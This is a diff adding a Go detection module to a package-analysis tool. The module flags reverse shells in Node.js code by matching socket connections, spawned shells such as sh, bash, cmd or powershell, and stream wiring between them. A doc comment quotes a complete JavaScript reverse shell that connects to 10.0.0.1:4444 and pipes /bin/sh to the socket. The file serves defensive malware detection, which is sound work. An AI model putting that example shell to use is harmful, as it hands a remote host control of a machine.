@@ -0,0 +1,205 @@
+package detections
+
+import (
+	"path"
+	"slices"
+	"strings"
+
+	"github.com/ossf/package-analysis/pkg/api/staticanalysis/token"
+)
+
+// socketModules are the Node.js modules used to open network connections.
+var socketModules = map[string]bool{
+	"net":      true,
+	"node:net": true,
+	"tls":      true,
+	"node:tls": true,
+}
+
+// socketFunctions are the functions and constructors of socketModules which
+// connect a socket.
+var socketFunctions = map[string]bool{
+	"connect":          true,
+	"createConnection": true,
+	"Socket":           true,
+}
+
+// processModules are the Node.js modules used to run commands.
+var processModules = map[string]bool{
+	"child_process":      true,
+	"node:child_process": true,
+}
+
+// spawnFunctions are the functions of processModules which run a command with
+// its standard streams available to the caller.
+var spawnFunctions = map[string]bool{
+	"spawn":    true,
+	"exec":     true,
+	"execFile": true,
+}
+
+// shells are the names of command interpreters that are run by reverse shells.
+var shells = map[string]bool{
+	"sh":             true,
+	"bash":           true,
+	"dash":           true,
+	"zsh":            true,
+	"ksh":            true,
+	"cmd":            true,
+	"cmd.exe":        true,
+	"powershell":     true,
+	"powershell.exe": true,
+	"pwsh":           true,
+}
+
+// ReverseShellMatch describes a reverse shell found in a file. SocketCall is the
+// call that connects the socket, and ShellCall is the call that runs Shell.
+// SocketWired is true if the standard streams of a process are wired to the
+// connected socket itself, rather than only to some stream in the same file.
+type ReverseShellMatch struct {
+	SocketCall  token.Call
+	ShellCall   token.Call
+	Shell       string
+	SocketWired bool
+}
+
+// splitCallee returns the object and function name of the given callee, where
+// the object of a function called on the result of require("module") or
+// import("module") is the module name. For example, require("net").connect
+// returns "net", "connect".
+func splitCallee(callee string) (object, function string) {
+	i := strings.LastIndexByte(callee, '.')
+	if i < 0 {
+		return "", callee
+	}
+	object = callee[:i]
+	for _, prefix := range []string{`require("`, `import("`} {
+		if module, ok := strings.CutPrefix(object, prefix); ok {
+			return strings.TrimSuffix(module, `")`), callee[i+1:]
+		}
+	}
+	return object, callee[i+1:]
+}
+
+// spawnedShell returns the shell run by the given call to a spawn function, or the
+// empty string if the call does not run a shell. The command may be a path.
+func spawnedShell(call token.Call) string {
+	if len(call.Args) == 0 || call.Args[0].Type != "String" {
+		return ""
+	}
+	command, _, _ := strings.Cut(strings.TrimSpace(call.Args[0].Value), " ")
+	// handle Windows paths such as C:\Windows\System32\cmd.exe
+	name := strings.ToLower(path.Base(strings.ReplaceAll(command, `\`, "/")))
+	if shells[name] {
+		return name
+	}
+	return ""
+}
+
+// isStdioWiring returns whether the given call connects the standard streams of
+// a process to another stream, e.g. sh.stdout.pipe(client), client.pipe(sh.stdin)
+// or sh.stdin.write(data).
+func isStdioWiring(call token.Call) bool {
+	object, function := splitCallee(call.Callee)
+	switch function {
+	case "pipe":
+		if strings.HasSuffix(object, ".stdout") || strings.HasSuffix(object, ".stderr") {
+			return true
+		}
+		for _, arg := range call.Args {
+			if arg.Type == "Member" && strings.HasSuffix(arg.Value, ".stdin") {
+				return true
+			}
+		}
+	case "write":
+		return strings.HasSuffix(object, ".stdin")
+	}
+	return false
+}
+
+// wiresSocket returns whether the given stdio wiring call (see isStdioWiring) is
+// made on, or passed, one of the given socket objects, e.g. client.pipe(sh.stdin)
+// or sh.stdout.pipe(client) for the socket client.
+func wiresSocket(call token.Call, sockets map[string]bool) bool {
+	if object, _ := splitCallee(call.Callee); sockets[object] {
+		return true
+	}
+	for _, arg := range call.Args {
+		if arg.Type == "Identifier" && sockets[arg.Value] {
+			return true
+		}
+	}
+	return false
+}
+
+/*
+FindReverseShells returns the reverse shells found among the calls in a file, whose
+imports (by declarations such as import net from "net") are also given. A
+reverse shell connects a socket to a remote host, runs a shell, and wires the
+standard streams of the shell to the socket, giving the remote host control of
+the machine. For example:
+
+	const client = new net.Socket();
+	client.connect(4444, "10.0.0.1", () => {
+		const sh = child_process.spawn("/bin/sh", []);
+		client.pipe(sh.stdin);
+		sh.stdout.pipe(client);
+	});
+
+Since data flow between the calls is not tracked, a reverse shell is reported for
+each call that spawns a shell, if the file also connects a socket and wires the
+standard streams of a process to another stream. Calls are only considered to
+connect a socket or spawn a process if they are made on the relevant module (by
+name, or via require), or if the file imports that module.
+
+The match is only SocketWired if the streams are wired to an object that a socket
+was connected on (client above), which is far more specific than a file which
+connects some socket and pipes some process, e.g. a build tool which both
+downloads files and runs commands. The socket object is not known for a socket
+returned by a call on the module, e.g. net.connect(4444, "10.0.0.1").
+*/
+func FindReverseShells(calls []token.Call, imports []token.Import) []ReverseShellMatch {
+	requiresSocket, requiresProcess := false, false
+	for _, call := range calls {
+		module := ImportedModule(call)
+		requiresSocket = requiresSocket || socketModules[module]
+		requiresProcess = requiresProcess || processModules[module]
+	}
+	for _, i := range imports {
+		requiresSocket = requiresSocket || socketModules[i.Module]
+		requiresProcess = requiresProcess || processModules[i.Module]
+	}
+
+	var socketCall *token.Call
+	var shellCalls, wiringCalls []token.Call
+	sockets := make(map[string]bool)
+	for i, call := range calls {
+		object, function := splitCallee(call.Callee)
+		if socketFunctions[function] && (socketModules[object] || (requiresSocket && object != "")) {
+			if socketCall == nil {
+				socketCall = &calls[i]
+			}
+			// e.g. client.connect(), rather than net.connect()
+			if !socketModules[object] {
+				sockets[object] = true
+			}
+		}
+		if spawnFunctions[function] && (processModules[object] || requiresProcess) && spawnedShell(call) != "" {
+			shellCalls = append(shellCalls, call)
+		}
+		if isStdioWiring(call) {
+			wiringCalls = append(wiringCalls, call)
+		}
+	}
+
+	if socketCall == nil || len(wiringCalls) == 0 || len(shellCalls) == 0 {
+		return nil
+	}
+	socketWired := slices.ContainsFunc(wiringCalls, func(call token.Call) bool { return wiresSocket(call, sockets) })
+
+	matches := make([]ReverseShellMatch, 0, len(shellCalls))
+	for _, call := range shellCalls {
+		matches = append(matches, ReverseShellMatch{SocketCall: *socketCall, ShellCall: call, Shell: spawnedShell(call), SocketWired: socketWired})
+	}
+	return matches
+}